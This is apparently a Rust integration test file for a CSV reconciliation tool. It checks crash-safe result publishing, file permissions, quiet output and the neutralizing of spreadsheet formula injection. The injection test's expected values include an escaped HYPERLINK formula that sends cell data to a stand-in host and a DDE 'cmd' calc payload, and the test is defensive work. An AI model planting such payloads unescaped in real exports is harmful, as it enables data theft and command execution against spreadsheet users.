//! Safe results through the binary: a run killed with SIGKILL at any point
//! of publishing leaves the previous complete results or the new complete
//! ones, never a mix; files are for owner and group only; formula-like text
//! is neutralized; `--quiet` prints nothing and stdout holds only the summary.

mod common;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{data, recon, root, rows, snapshot, summary};

/// Names in `dir` starting with `prefix`.
fn named(dir: &Path, prefix: &str) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with(prefix))
        .collect()
}

fn run_args(ledger: &Path, out: &Path) -> Vec<String> {
    let mut args: Vec<String> = ["run", "--ledger"].map(String::from).to_vec();
    args.push(ledger.display().to_string());
    args.extend(
        [
            "--bank",
            "examples/basic/bank.csv",
            "--rules",
            "rules/default.toml",
            "--skip-bad-rows",
            "--out",
        ]
        .map(String::from),
    );
    args.push(out.display().to_string());
    args
}

fn complete_run(ledger: &Path, out: &Path) {
    recon().args(run_args(ledger, out)).assert().code(1);
}

/// Starts a run that pauses at `point`, waits until it says so, and kills it with SIGKILL.
fn kill_at(point: &str, ledger: &Path, out: &Path) {
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("recon"))
        .current_dir(root())
        .env("RECON_TEST_PAUSE_AT", point)
        .args(run_args(ledger, out))
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("paused at") {
        line.clear();
        assert!(
            stderr.read_line(&mut line).unwrap() > 0,
            "the run ended without pausing at {point}"
        );
    }
    child.kill().unwrap();
    assert!(!child.wait().unwrap().success());
}

#[test]
fn a_run_killed_before_the_swap_leaves_the_previous_results_intact() {
    let example = root().join("examples/basic/ledger.csv");
    let other = data("run/ledger_bad_rows.csv");
    for point in ["write", "swap"] {
        let tmp = tempfile::tempdir().unwrap();
        let out = tmp.path().join("out");
        complete_run(&example, &out);
        let before = snapshot(&out);

        kill_at(point, &other, &out);
        assert_eq!(
            snapshot(&out),
            before,
            "killed at {point}: previous results changed"
        );
        let staging = named(tmp.path(), ".out.recon-new-");
        assert_eq!(staging.len(), 1, "killed at {point}");
        let written: Vec<String> = snapshot(&staging[0]).into_iter().map(|(n, _)| n).collect();
        if point == "write" {
            // Result files are rendered concurrently, straight into staging:
            // at the first one finished, which others exist depends on timing.
            let mid_write =
                written.iter().any(|n| n.ends_with(".csv")) && !written.contains(&"summary.json".to_string());
            assert!(mid_write, "the kill was not mid-write: {written:?}");
        } else {
            assert!(written.contains(&"summary.json".to_string()), "{written:?}");
        }

        // The next run clears the debris and publishes normally.
        complete_run(&other, &out);
        assert!(named(tmp.path(), ".out.recon-").is_empty());
        assert!(out.join("rejected.csv").exists());
        assert_eq!(summary(&out)["conservation"]["ledger"]["holds"], true);
    }
}

#[test]
fn a_run_killed_after_the_swap_leaves_the_new_complete_results() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    complete_run(&root().join("examples/basic/ledger.csv"), &out);
    let other = data("run/ledger_bad_rows.csv");
    kill_at("cleanup", &other, &out);
    let names: Vec<String> = snapshot(&out).into_iter().map(|(n, _)| n).collect();
    assert!(names.contains(&"rejected.csv".to_string()), "{names:?}");
    let s = summary(&out);
    assert_eq!(s["inputs"]["ledger"]["path"], other.display().to_string());
    assert_eq!(rows(&out.join("rejected.csv")).len(), 2);
    complete_run(&other, &out);
    assert!(named(tmp.path(), ".out.recon-").is_empty());
}

#[cfg(unix)]
#[test]
fn results_and_the_audit_log_are_for_owner_and_group_only() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    complete_run(&root().join("examples/basic/ledger.csv"), &out);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&out), 0o750);
    for (name, _) in snapshot(&out) {
        assert_eq!(mode(&out.join(&name)), 0o640, "{name}");
    }
    assert_eq!(mode(&tmp.path().join("audit.log")), 0o640);
}

#[test]
fn formula_like_text_is_neutralized_and_numbers_are_not() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    recon()
        .args([
            "run",
            "--ledger",
            "tests/data/injection/ledger.csv",
            "--bank",
            "tests/data/injection/bank.csv",
        ])
        .args(["--rules", "rules/default.toml", "--out"])
        .arg(&out)
        .assert()
        .code(1);
    let unmatched = rows(&out.join("unmatched.csv"));
    let cell = |i: usize, column: &str| unmatched[i][column].clone();
    assert_eq!(
        cell(0, "key"),
        "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")"
    );
    assert_eq!(cell(0, "户号"), "'+W1001");
    assert_eq!(cell(0, "付款账号"), "'@SUM(1+1)");
    assert_eq!(cell(1, "merchant"), "'-2+3");
    assert_eq!(cell(2, "amount"), "-30.00");
    assert_eq!(cell(3, "merchant"), "'@evil");
    assert_eq!(cell(3, "摘要"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell(4, "key"), "'+P004");
    assert_eq!(cell(4, "摘要"), "'-1+1");
    // Nothing in any result file starts a cell with a formula character.
    for (name, bytes) in snapshot(&out).into_iter().filter(|(n, _)| n.ends_with(".csv")) {
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        for record in reader.records() {
            for field in record.unwrap().iter() {
                let risky = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!risky || field.parse::<f64>().is_ok(), "{name}: {field}");
            }
        }
    }
}

#[test]
fn quiet_prints_nothing_but_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let quiet = recon()
        .args(run_args(&root().join("examples/basic/ledger.csv"), &out))
        .arg("--quiet")
        .output()
        .unwrap();
    assert_eq!(quiet.status.code(), Some(1));
    assert!(
        quiet.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&quiet.stdout)
    );
    assert!(
        quiet.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&quiet.stderr)
    );
    assert!(out.join("summary.json").exists());

    let failing = recon()
        .args(run_args(&tmp.path().join("missing.csv"), &out))
        .arg("--quiet")
        .output()
        .unwrap();
    assert_eq!(failing.status.code(), Some(2));
    assert!(failing.stdout.is_empty());
    assert!(String::from_utf8_lossy(&failing.stderr).contains("missing.csv: cannot read"));
}

#[test]
fn without_a_terminal_stdout_holds_the_summary_and_stderr_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let done = recon()
        .args(run_args(
            &root().join("examples/basic/ledger.csv"),
            &tmp.path().join("out"),
        ))
        .output()
        .unwrap();
    assert_eq!(done.status.code(), Some(1));
    assert!(
        done.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let text = String::from_utf8(done.stdout).unwrap();
    assert!(text.starts_with("rules    city-payments 1.0.0"), "{text}");
    assert!(text.contains("status   exceptions"), "{text}");
}
